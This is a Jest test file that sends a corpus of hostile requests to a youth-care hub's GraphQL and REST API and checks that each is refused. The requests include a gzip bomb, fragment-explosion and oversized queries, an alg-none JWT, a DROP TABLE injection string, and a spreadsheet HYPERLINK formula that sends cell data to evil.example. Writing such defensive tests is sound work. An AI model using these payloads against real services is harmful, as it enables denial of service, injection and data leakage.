/**
 * A corpus of hostile and malformed requests for /graphql (and the bearer challenge of the
 * REST exports), each with its exact HTTP status and error code. While each case runs, GET
 * /healthz must answer within a second: no request may hold the process.
 */
import { SignJWT, UnsecuredJWT } from 'jose';
import http from 'node:http';
import { gzipSync } from 'node:zlib';
import { Client } from 'pg';
import type { DataSource } from 'typeorm';
import { seed } from '../src/seed/seed';
import { startTestApi, TEST_SECRET, type TestApi } from './helpers/api';
import { createTestDatabase, type TestDatabase } from './helpers/db';
import { FIXTURE } from './fixtures/regions';
import { pinKlok } from './helpers/klok';

pinKlok();

/** Put into every hostile string: it must never reach a log line. */
const MARK = 'ATTACKER-7f3a';
const ISSUER = 'https://idp.test';
const AUDIENCE = 'jeugdzorg-hub';
const UUID0 = '00000000-0000-4000-8000-000000000000';

let db: TestDatabase;
let ds: DataSource;
let dev: TestApi;
let prod: TestApi;
const tokens: Record<string, string> = {};
const logs: string[] = [];
let silent: string | undefined;

beforeAll(async () => {
  // The log lines are part of what is checked: capture them instead of silencing them.
  silent = process.env.HUB_SILENT;
  delete process.env.HUB_SILENT;
  for (const stream of [process.stdout, process.stderr]) {
    jest.spyOn(stream, 'write').mockImplementation((chunk: string | Uint8Array) => {
      logs.push(String(chunk));
      return true;
    });
  }
  db = await createTestDatabase('hostile_graphql');
  ds = await db.app({ poolSize: 6 });
  await seed(ds, FIXTURE);
  dev = await startTestApi(ds, { GRAPHQL_MAX_COST: '1000' });
  prod = await startTestApi(ds, { NODE_ENV: 'production', JWT_ISSUER: ISSUER, JWT_AUDIENCE: AUDIENCE, HUB_ENCRYPTION_KEY: Buffer.alloc(32, 3).toString('base64'), HUB_BSN_HASH_KEY: Buffer.alloc(32, 4).toString('base64'), METRICS_TOKEN: 'hostile-test-metrics-token' });
  tokens.regio = await dev.token({ rol: 'regio', regio: 'NOB' });
  tokens.prod = await prod.token({ rol: 'regio', regio: 'NOB' });
  const key = new TextEncoder().encode(TEST_SECRET);
  const claims = { rol: 'regio', regio: 'NOB' };
  const now = Math.floor(Date.now() / 1000);
  tokens.verlopen = await new SignJWT(claims).setProtectedHeader({ alg: 'HS256' }).setSubject('x').setIssuedAt(now - 7200).setExpirationTime(now - 3600).sign(key);
  tokens.zonderExp = await new SignJWT(claims).setProtectedHeader({ alg: 'HS256' }).setSubject('x').setIssuedAt().sign(key);
  tokens.dagLang = await new SignJWT(claims).setProtectedHeader({ alg: 'HS256' }).setSubject('x').setIssuedAt().setExpirationTime('24h').sign(key);
  tokens.algNone = new UnsecuredJWT(claims).setSubject('x').setIssuedAt().setExpirationTime('1h').encode();
  tokens.prodZonderAud = await new SignJWT(claims).setProtectedHeader({ alg: 'HS256' }).setSubject('x').setIssuer(ISSUER).setIssuedAt().setExpirationTime('1h').sign(key);
  tokens.prodAndereAud = await new SignJWT(claims).setProtectedHeader({ alg: 'HS256' }).setSubject('x').setIssuer(ISSUER).setAudience('other-service').setIssuedAt().setExpirationTime('1h').sign(key);
});

afterAll(async () => {
  await dev?.close();
  await prod?.close();
  await db?.drop();
  jest.restoreAllMocks();
  if (silent !== undefined) process.env.HUB_SILENT = silent;
});

interface Answer {
  status: number;
  headers: http.IncomingHttpHeaders;
  text: string;
  /** extensions.code of the first GraphQL error, or the code of a REST error. */
  code: string | undefined;
  json?: { data?: Record<string, unknown> | null; errors?: { message: string; extensions?: { code?: string } }[]; code?: string };
}

interface Hostile {
  api?: () => TestApi;
  method?: string;
  path?: string;
  headers?: Record<string, string>;
  body?: string | Buffer;
}

/**
 * Sends one request; once its last byte is written, asks /healthz with a one-second deadline.
 * Both must answer.
 */
async function send(h: Hostile): Promise<Answer> {
  const api = (h.api ?? (() => dev))();
  const url = new URL(h.path ?? '/graphql', api.url);
  let written!: () => void;
  const sent = new Promise<void>((r) => (written = r));
  const answer = new Promise<Answer>((resolve, reject) => {
    const req = http.request(url, { method: h.method ?? 'POST', headers: h.headers }, (res) => {
      const chunks: Buffer[] = [];
      res.on('data', (c: Buffer) => chunks.push(c));
      res.on('end', () => {
        const text = Buffer.concat(chunks).toString('utf8');
        let json: Answer['json'];
        try {
          json = JSON.parse(text) as Answer['json'];
        } catch {
          json = undefined;
        }
        resolve({ status: res.statusCode ?? 0, headers: res.headers, text, json, code: json?.errors?.[0]?.extensions?.code ?? json?.code });
      });
    });
    req.on('error', reject);
    req.end(h.body ?? undefined, () => written());
  });
  await sent;
  const health = fetch(`${api.url}/healthz`, { signal: AbortSignal.timeout(1000) });
  const [a, hz] = await Promise.all([answer, health]);
  expect(hz.status).toBe(200);
  return a;
}

const json = (body: unknown, token = tokens.regio, extra: Record<string, string> = {}): Hostile => ({
  headers: { 'content-type': 'application/json', authorization: `Bearer ${token}`, ...extra },
  body: JSON.stringify(body),
});
const query = (q: string, variables?: Record<string, unknown>, token?: string) => json({ query: q, variables }, token);
const prodQuery = (q: string, token = tokens.prod): Hostile => ({ ...json({ query: q }, token), api: () => prod });
const repeat = (n: number, s: string) => Array(n).fill(s).join(' ');
const cursor = (v: unknown) => Buffer.from(JSON.stringify(v)).toString('base64url');

interface Case {
  name: string;
  request: () => Hostile;
  status: number;
  code: string | undefined;
  /** A log line this refusal must write (its msg). */
  logt?: string;
  check?: (a: Answer) => void;
}

const BEARER = 'Bearer realm="jeugdzorg-hub"';
const ONGELDIG = `${BEARER}, error="invalid_token", error_description="The access token is invalid"`;
const VERLOPEN = `${BEARER}, error="invalid_token", error_description="The access token expired"`;

const CASES: Case[] = [
  // Size of the body.
  { name: '20,000 repeated fields (320 KB)', request: () => query(`{ ${repeat(20_000, 'indexaties { id }')} }`), status: 413, code: 'PAYLOAD_TOO_LARGE', logt: 'graphql request refused' },
  { name: 'a body padded with 300 KB of white space', request: () => ({ ...query('{ __typename }'), body: `{"query":"{ __typename }"${' '.repeat(300_000)}}` }), status: 413, code: 'PAYLOAD_TOO_LARGE' },
  { name: 'a 300 KB variable', request: () => query('query($x: String) { __typename }', { x: 'x'.repeat(300_000) }), status: 413, code: 'PAYLOAD_TOO_LARGE' },
  {
    name: 'a gzip bomb: 2 KB on the wire, 2 MB inflated',
    request: () => ({ ...query('{ __typename }'), headers: { ...query('').headers, 'content-encoding': 'gzip' }, body: gzipSync(`{"query":"{ __typename }","x":"${' '.repeat(2_000_000)}"}`) }),
    status: 413,
    code: 'PAYLOAD_TOO_LARGE',
  },
  {
    name: '10,000 unused variables within the body limit are ignored',
    request: () => query('{ __typename }', Object.fromEntries(Array.from({ length: 10_000 }, (_, i) => [`v${i}`, i]))),
    status: 200,
    code: undefined,
    check: (a) => expect(a.json?.data).toEqual({ __typename: 'Query' }),
  },
  // Tokens at parse.
  { name: '4,000 repeated fields (128 KB): over the token limit', request: () => query(`{ ${repeat(4000, 'gemeenten(first: 1) { totalCount }')} }`), status: 400, code: 'QUERY_TOO_COMPLEX', logt: 'graphql request refused' },
  { name: 'a list argument nested 1,600 deep', request: () => query(`{ gemeenten(after: ${'['.repeat(1600)}${']'.repeat(1600)}) { totalCount } }`), status: 400, code: 'QUERY_TOO_COMPLEX' },
  {
    name: '150 KB of comments around a small query are cheap',
    request: () => query(`${`# ${MARK}\n`.repeat(10_000)}{ __typename }`),
    status: 200,
    code: undefined,
    check: (a) => expect(a.json?.data).toEqual({ __typename: 'Query' }),
  },
  // Selections, before validation.
  { name: '2,000 repeated fields under the token limit', request: () => query(`{ ${repeat(2000, '__typename')} }`), status: 400, code: 'QUERY_TOO_COMPLEX', logt: 'graphql request refused' },
  { name: '501 selections', request: () => query(`{ ${repeat(501, '__typename')} }`), status: 400, code: 'QUERY_TOO_COMPLEX' },
  {
    name: '500 selections are allowed',
    request: () => query(`{ ${repeat(500, '__typename')} }`),
    status: 200,
    code: undefined,
    check: (a) => expect(a.json?.data).toEqual({ __typename: 'Query' }),
  },
  { name: '200 repeated fields with sub-selections (1,000 selections)', request: () => query(`{ ${repeat(200, 'gemeenten(first: 1) { edges { node { code } } }')} }`), status: 400, code: 'QUERY_TOO_COMPLEX' },
  // Fragments.
  { name: 'a fragment spreading itself', request: () => query('{ ...A } fragment A on Query { __typename ...A }'), status: 400, code: 'GRAPHQL_VALIDATION_FAILED', logt: 'graphql request refused' },
  { name: 'a fragment cycle through three fragments', request: () => query('{ ...A } fragment A on Query { ...B } fragment B on Query { ...C } fragment C on Query { __typename ...A }'), status: 400, code: 'GRAPHQL_VALIDATION_FAILED' },
  {
    name: 'fragment fan-out: 12 levels of 10 spreads (10^12 selections)',
    request: () => query(`{ ...F0 } ${Array.from({ length: 12 }, (_, i) => `fragment F${i} on Query { ${repeat(10, `...F${i + 1}`)} }`).join(' ')} fragment F12 on Query { __typename }`),
    status: 400,
    code: 'QUERY_TOO_COMPLEX',
  },
  { name: 'one fragment spread 600 times', request: () => query(`{ ${repeat(600, '...A')} } fragment A on Query { __typename }`), status: 400, code: 'QUERY_TOO_COMPLEX' },
  { name: '200 unused fragments of three fields', request: () => query(`{ __typename } ${Array.from({ length: 200 }, (_, i) => `fragment U${i} on Query { a: __typename b: __typename c: __typename }`).join(' ')}`), status: 400, code: 'QUERY_TOO_COMPLEX' },
  { name: 'a spread of an unknown fragment', request: () => query('{ ...Nergens }'), status: 400, code: 'GRAPHQL_VALIDATION_FAILED' },
  // Directives.
  { name: '60 @include on one field', request: () => query(`{ __typename ${repeat(60, '@include(if: true)')} }`), status: 400, code: 'QUERY_TOO_COMPLEX', logt: 'graphql request refused' },
  { name: '60 fields with @skip', request: () => query(`{ ${repeat(60, '__typename @skip(if: false)')} }`), status: 400, code: 'QUERY_TOO_COMPLEX' },
  { name: 'an unknown directive', request: () => query(`{ __typename @${MARK.replace('-', '_')} }`), status: 400, code: 'GRAPHQL_VALIDATION_FAILED' },
  { name: 'a directive variable that is not given', request: () => query('query($v: Boolean!) { __typename @include(if: $v) }'), status: 400, code: 'BAD_USER_INPUT' },
  // Aliases, depth, cost.
  { name: '31 aliases', request: () => query(`{ ${Array.from({ length: 31 }, (_, i) => `a${i}: __typename`).join(' ')} }`), status: 400, code: 'QUERY_TOO_COMPLEX', logt: 'graphql request refused' },
  { name: 'eleven levels deep', request: () => query(`{ bericht(id: "${UUID0}") { ${'heen { '.repeat(10)}id${' }'.repeat(10)} } }`), status: 400, code: 'QUERY_TOO_COMPLEX' },
  {
    name: 'over the cost limit',
    request: () => query(`{ a: gemeenten(first: 200) { edges { node { code naam } } } b: gemeenten(first: 200) { edges { node { code naam } } } }`),
    status: 400,
    code: 'QUERY_TOO_COMPLEX',
    logt: 'graphql request refused',
  },
  // Encodings and content types.
  { name: 'a UTF-16 body declared as such', request: () => ({ ...query(''), headers: { ...query('').headers, 'content-type': 'application/json; charset=utf-16' }, body: Buffer.from(JSON.stringify({ query: '{ __typename }' }), 'utf16le') }), status: 415, code: 'UNSUPPORTED_MEDIA_TYPE' },
  {
    name: 'a UTF-16 body with its BOM, declared as JSON',
    request: () => ({ ...query(''), body: Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(JSON.stringify({ query: '{ __typename }' }), 'utf16le')]) }),
    status: 400,
    code: 'BAD_REQUEST',
  },
  { name: 'a latin-1 charset', request: () => ({ ...query('{ __typename }'), headers: { ...query('').headers, 'content-type': 'application/json; charset=iso-8859-1' } }), status: 415, code: 'UNSUPPORTED_MEDIA_TYPE' },
  {
    name: 'a UTF-8 BOM before the JSON',
    request: () => ({ ...query(''), body: Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(JSON.stringify({ query: '{ __typename }' }))]) }),
    status: 200,
    code: undefined,
    check: (a) => expect(a.json?.data).toEqual({ __typename: 'Query' }),
  },
  {
    name: 'invalid UTF-8 inside the query text',
    request: () => ({ ...query(''), body: Buffer.concat([Buffer.from('{"query":"{ gemeenten(after: \\"'), Buffer.from([0xc3, 0x28, 0xff]), Buffer.from('\\") { totalCount } }"}')]) }),
    status: 200,
    code: 'BAD_USER_INPUT',
  },
  { name: 'invalid UTF-8 outside any string', request: () => ({ ...query(''), body: Buffer.concat([Buffer.from('{"query":'), Buffer.from([0xff, 0xfe]), Buffer.from('}')]) }), status: 400, code: 'BAD_REQUEST' },
  { name: 'text/plain (a CSRF-simple request)', request: () => ({ ...query('{ __typename }'), headers: { ...query('').headers, 'content-type': 'text/plain' } }), status: 415, code: 'UNSUPPORTED_MEDIA_TYPE', logt: 'graphql request refused' },
  { name: 'a form post', request: () => ({ ...query(''), headers: { ...query('').headers, 'content-type': 'application/x-www-form-urlencoded' }, body: 'query=%7B__typename%7D' }), status: 415, code: 'UNSUPPORTED_MEDIA_TYPE' },
  { name: 'no content type', request: () => ({ headers: { authorization: `Bearer ${tokens.regio}` }, body: '{"query":"{ __typename }"}' }), status: 415, code: 'UNSUPPORTED_MEDIA_TYPE' },
  { name: 'JSON that does not parse', request: () => ({ ...query(''), body: `{"query": "{ __typename }", ${MARK}` }), status: 400, code: 'BAD_REQUEST', logt: 'graphql request refused' },
  { name: 'a JSON string instead of an object', request: () => ({ ...query(''), body: '"{ __typename }"' }), status: 400, code: 'BAD_REQUEST' },
  { name: 'a query that is a number', request: () => json({ query: 42 }), status: 400, code: 'BAD_REQUEST' },
  { name: 'an empty object', request: () => json({}), status: 400, code: 'BAD_REQUEST' },
  // GET.
  { name: 'GET with the query in the URL, without a preflight header', request: () => ({ method: 'GET', path: '/graphql?query=%7B__typename%7D', headers: { authorization: `Bearer ${tokens.regio}` } }), status: 400, code: 'BAD_REQUEST' },
  {
    name: 'GET with the query in the URL and a preflight header',
    request: () => ({ method: 'GET', path: '/graphql?query=%7B__typename%7D', headers: { authorization: `Bearer ${tokens.regio}`, 'apollo-require-preflight': '1' } }),
    status: 200,
    code: undefined,
    check: (a) => expect(a.json?.data).toEqual({ __typename: 'Query' }),
  },
  {
    name: 'GET with a mutation',
    request: () => ({ method: 'GET', path: `/graphql?query=${encodeURIComponent('mutation { herverdeelBegrotingspost(id: "x") { id } }')}`, headers: { authorization: `Bearer ${tokens.regio}`, 'apollo-require-preflight': '1' } }),
    status: 405,
    code: 'BAD_REQUEST',
  },
  { name: 'GET with 20,000 repeated fields in the URL', request: () => ({ method: 'GET', path: `/graphql?query=${encodeURIComponent(`{ ${repeat(20_000, '__typename')} }`)}`, headers: { 'apollo-require-preflight': '1' } }), status: 431, code: undefined },
  // Batching.
  { name: 'a batch of two operations', request: () => json([{ query: '{ __typename }' }, { query: '{ __typename }' }]), status: 400, code: 'BAD_REQUEST' },
  { name: 'a batch of 2,000 operations', request: () => json(Array(2000).fill({ query: '{ __typename }' })), status: 400, code: 'BAD_REQUEST' },
  // Production: no introspection, no suggestions.
  { name: 'introspection in production', request: () => prodQuery('{ __schema { types { name } } }'), status: 400, code: 'GRAPHQL_VALIDATION_FAILED' },
  { name: '__type in production', request: () => prodQuery('{ __type(name: "Gemeente") { name fields { name } } }'), status: 400, code: 'GRAPHQL_VALIDATION_FAILED' },
  {
    name: 'a misspelt field in production: no suggestion',
    request: () => prodQuery('{ gemeentn { totalCount } }'),
    status: 400,
    code: 'GRAPHQL_VALIDATION_FAILED',
    check: (a) => expect(a.json?.errors?.map((e) => e.message)).toEqual(['Cannot query field "gemeentn" on type "Query".']),
  },
  {
    name: 'a misspelt argument and enum value in production: no suggestion',
    request: () => prodQuery('{ gemeenten(frist: 1) { totalCount } begrotingsposten(jaar: "2026") { edges { node { naam } } } }'),
    status: 400,
    code: 'GRAPHQL_VALIDATION_FAILED',
    check: (a) => expect(a.text).not.toMatch(/Did you mean|first/),
  },
  {
    name: 'a misspelt field in development keeps its suggestion',
    request: () => query('{ gemeentn { totalCount } }'),
    status: 400,
    code: 'GRAPHQL_VALIDATION_FAILED',
    check: (a) => expect(a.json?.errors?.[0].message).toBe('Cannot query field "gemeentn" on type "Query". Did you mean "gemeenten"?'),
  },
  {
    name: 'a production token for the hub',
    request: () => prodQuery('{ gemeenten(first: 1) { totalCount } }'),
    status: 200,
    code: undefined,
    check: (a) => expect(a.json?.data).toEqual({ gemeenten: { totalCount: 3 } }),
  },
  // Malformed arguments: BAD_USER_INPUT, nothing of them in the log.
  { name: 'a cursor that is not base64 JSON', request: () => query(`{ gemeenten(first: 1, after: "${MARK}") { totalCount } }`), status: 200, code: 'BAD_USER_INPUT' },
  { name: 'a cursor whose id is not a UUID', request: () => query(`{ gemeenten(first: 1, after: "${cursor(['0796', `${MARK}'); DROP TABLE gemeente; --`])}") { totalCount } }`), status: 200, code: 'BAD_USER_INPUT' },
  { name: 'a cursor whose date is not a date', request: () => query(`{ declaraties(first: 1, after: "${cursor([MARK, UUID0])}") { totalCount } }`), status: 200, code: 'BAD_USER_INPUT', logt: 'refused input' },
  { name: 'a cursor of 10 KB', request: () => query(`{ gemeenten(first: 1, after: "${cursor([MARK.repeat(600), UUID0])}") { totalCount } }`), status: 200, code: 'BAD_USER_INPUT' },
  {
    name: 'an id that is not a UUID is not found',
    request: () => query(`{ contract(id: "${MARK}") { id } }`),
    status: 200,
    code: undefined,
    check: (a) => expect(a.json?.data).toEqual({ contract: null }),
  },
  { name: 'a date variable that is no date', request: () => query('query($d: LocalDate) { declaraties(filter: { vanaf: $d }) { totalCount } }', { d: `2026-13-45${MARK}` }), status: 400, code: 'BAD_USER_INPUT' },
  { name: 'a date literal that is no date', request: () => query(`{ declaraties(filter: { vanaf: "${MARK}" }) { totalCount } }`), status: 400, code: 'GRAPHQL_VALIDATION_FAILED' },
  // Tokens.
  { name: 'no token', request: () => ({ headers: { 'content-type': 'application/json' }, body: '{"query":"{ __typename }"}' }), status: 401, code: 'UNAUTHENTICATED', check: (a) => expect(a.headers['www-authenticate']).toBe(BEARER) },
  { name: 'an expired token', request: () => query('{ __typename }', undefined, tokens.verlopen), status: 401, code: 'TOKEN_EXPIRED', check: (a) => expect(a.headers['www-authenticate']).toBe(VERLOPEN) },
  { name: 'a token without exp', request: () => query('{ __typename }', undefined, tokens.zonderExp), status: 401, code: 'UNAUTHENTICATED', check: (a) => expect(a.headers['www-authenticate']).toBe(ONGELDIG) },
  { name: 'a token living 24 hours', request: () => query('{ __typename }', undefined, tokens.dagLang), status: 401, code: 'UNAUTHENTICATED', check: (a) => expect(a.headers['www-authenticate']).toBe(ONGELDIG) },
  { name: 'an alg none token', request: () => query('{ __typename }', undefined, tokens.algNone), status: 401, code: 'UNAUTHENTICATED', check: (a) => expect(a.headers['www-authenticate']).toBe(ONGELDIG) },
  { name: 'a token that is no JWT', request: () => query('{ __typename }', undefined, MARK), status: 401, code: 'UNAUTHENTICATED', check: (a) => expect(a.headers['www-authenticate']).toBe(ONGELDIG) },
  { name: 'production: a token without audience', request: () => prodQuery('{ __typename }', tokens.prodZonderAud), status: 401, code: 'UNAUTHENTICATED', check: (a) => expect(a.headers['www-authenticate']).toBe(ONGELDIG) },
  { name: 'production: a token for another audience', request: () => prodQuery('{ __typename }', tokens.prodAndereAud), status: 401, code: 'UNAUTHENTICATED' },
  { name: 'production: a development token without issuer', request: () => prodQuery('{ __typename }', tokens.regio), status: 401, code: 'UNAUTHENTICATED' },
  { name: 'REST export without a token', request: () => ({ method: 'GET', path: '/export/afrekeningen.csv?maand=2026-09-01' }), status: 401, code: 'UNAUTHENTICATED', check: (a) => expect(a.headers['www-authenticate']).toBe(BEARER) },
  {
    name: 'an iJw message with an expired token',
    request: () => ({ path: '/ijw/berichten', headers: { 'content-type': 'application/xml', authorization: `Bearer ${tokens.verlopen}` }, body: '<Bericht/>' }),
    status: 401,
    code: 'TOKEN_EXPIRED',
    check: (a) => expect(a.headers['www-authenticate']).toBe(VERLOPEN),
  },
  {
    name: 'REST export with an expired token',
    request: () => ({ method: 'GET', path: '/export/kwartaal/2026/3/regio.csv', headers: { authorization: `Bearer ${tokens.verlopen}` } }),
    status: 401,
    code: 'TOKEN_EXPIRED',
    check: (a) => expect(a.headers['www-authenticate']).toBe(VERLOPEN),
  },
  {
    name: 'REST export with a token without exp',
    request: () => ({ method: 'GET', path: '/export/kwartaal/2026/3/regio.csv', headers: { authorization: `Bearer ${tokens.zonderExp}` } }),
    status: 401,
    code: 'UNAUTHENTICATED',
    check: (a) => expect(a.headers['www-authenticate']).toBe(ONGELDIG),
  },
];

describe('hostile GraphQL requests', () => {
  it('the corpus is at least 40 cases', () => {
    expect(CASES.length).toBeGreaterThanOrEqual(40);
  });

  it.each(CASES.map((c) => [c.name, c] as const))('%s', async (_name, c) => {
    const from = logs.length;
    const a = await send(c.request());
    expect({ status: a.status, code: a.code }).toEqual({ status: c.status, code: c.code });
    c.check?.(a);
    const lines = logs.slice(from).join('');
    if (c.logt) expect(lines).toContain(`"msg":"${c.logt}"`);
    expect(lines).not.toContain(MARK);
    expect(lines).not.toContain('"level":"error"');
  });

  it('logs no attacker string over the whole corpus', () => {
    expect(logs.join('')).not.toContain(MARK);
  });
});

describe('timeouts', () => {
  /** A GraphQL request that gives up after 10 s, so a regression fails the test instead of holding the lock. */
  async function gql(api: TestApi, token: string, q: string) {
    const res = await fetch(`${api.url}/graphql`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', authorization: `Bearer ${token}` },
      body: JSON.stringify({ query: q }),
      signal: AbortSignal.timeout(10_000),
    });
    const body = (await res.json()) as { data?: unknown; errors?: { extensions?: { code?: string } }[] };
    return { status: res.status, ...body };
  }

  /** Holds an exclusive lock on a table, so every query on it waits until released. */
  async function lock(table: string): Promise<() => Promise<void>> {
    const c = new Client({ connectionString: db.ownerUrl });
    await c.connect();
    await c.query('BEGIN');
    await c.query(`LOCK TABLE ${table} IN ACCESS EXCLUSIVE MODE`);
    return async () => {
      await c.query('ROLLBACK');
      await c.end();
    };
  }

  it('a statement over the statement timeout is stopped by the database: REQUEST_TIMEOUT, logged', async () => {
    const traag = await db.app({ poolSize: 2, statementTimeoutMs: 300 });
    const api = await startTestApi(traag);
    const token = await api.token({ rol: 'regio', regio: 'NOB' });
    // The token check reads the municipalities once and keeps them: read them before the lock.
    expect((await gql(api, token, '{ __typename }')).status).toBe(200);
    const release = await lock('gemeente');
    try {
      const from = logs.length;
      const r = await gql(api, token, '{ gemeenten(first: 1) { totalCount } }');
      expect({ status: r.status, code: r.errors?.[0].extensions?.code, data: r.data }).toEqual({ status: 200, code: 'REQUEST_TIMEOUT', data: null });
      expect(logs.slice(from).join('')).toContain('"msg":"statement timed out"');
    } finally {
      await release();
      await api.close();
    }
  });

  it('a request over the request timeout gets a 503 REQUEST_TIMEOUT while the work goes on; the late answer is dropped', async () => {
    const api = await startTestApi(ds, { GRAPHQL_TIMEOUT_MS: '300' });
    const token = await api.token({ rol: 'regio', regio: 'NOB' });
    // The token check reads the municipalities once and keeps them: read them before the lock.
    expect((await gql(api, token, '{ __typename }')).status).toBe(200);
    const release = await lock('gemeente');
    let released = false;
    try {
      const from = logs.length;
      const r = await gql(api, token, '{ gemeenten(first: 1) { totalCount } }');
      expect({ status: r.status, code: r.errors?.[0].extensions?.code }).toEqual({ status: 503, code: 'REQUEST_TIMEOUT' });
      expect(logs.slice(from).join('')).toContain('"msg":"graphql request timed out"');
      await release();
      released = true;
      // The waiting query finishes once the lock is gone; the api keeps answering.
      const again = await gql(api, token, '{ gemeenten(first: 1) { totalCount } }');
      expect(again.data).toEqual({ gemeenten: { totalCount: 3 } });
    } finally {
      if (!released) await release();
      await api.close();
    }
  });
});

describe('CSV exports', () => {
  it('a budget line named as a formula is exported as text; amounts stay numbers', async () => {
    const MAAK = `mutation($input: BegrotingspostInput!) { maakBegrotingspost(input: $input) { id } }`;
    const namen = ['=HYPERLINK("https://evil.example/?"&A1,"klik")', '-1000', '@SUM(A1:A9)', '+31 6 12345678', '\tTab'];
    for (const naam of namen) {
      const b = await dev.gql(tokens.regio, MAAK, { input: { naam, begindatum: '2026-01-01', einddatum: '2026-12-31', bedragCenten: 100_000, sleutel: 'inwoners', productcategorieen: ['45'] } });
      expect(b.errors).toBeUndefined();
    }
    const res = await fetch(`${dev.url}/export/kwartaal/2026/3/begrotingsposten.csv`, { headers: { authorization: `Bearer ${tokens.regio}` } });
    expect(res.status).toBe(200);
    const regels = (await res.text()).replace(/^\uFEFF/, '').trim().split('\r\n');
    expect(regels[0]).toBe('naam;productcategorieen;productcategorieen_namen;budget_euro;gerealiseerd_euro;gerealiseerd_jaar_euro;verplicht_euro;prognose_euro;ruimte_euro');
    const cellen = regels.slice(1).map((r) => r.split(';'));
    expect(cellen.map((c) => c[0]).sort()).toEqual([`"'=HYPERLINK(""https://evil.example/?""&A1,""klik"")"`, "'+31 6 12345678", "'-1000", "'@SUM(A1:A9)", "'\tTab"].sort());
    // Amounts are numbers in euros with a decimal comma, not neutralised text.
    expect(cellen.map((c) => c[3])).toEqual(['1000,00', '1000,00', '1000,00', '1000,00', '1000,00']);
    expect(cellen.every((c) => c.slice(3).every((v) => /^-?\d+,\d\d$/.test(v)))).toBe(true);
  });
});
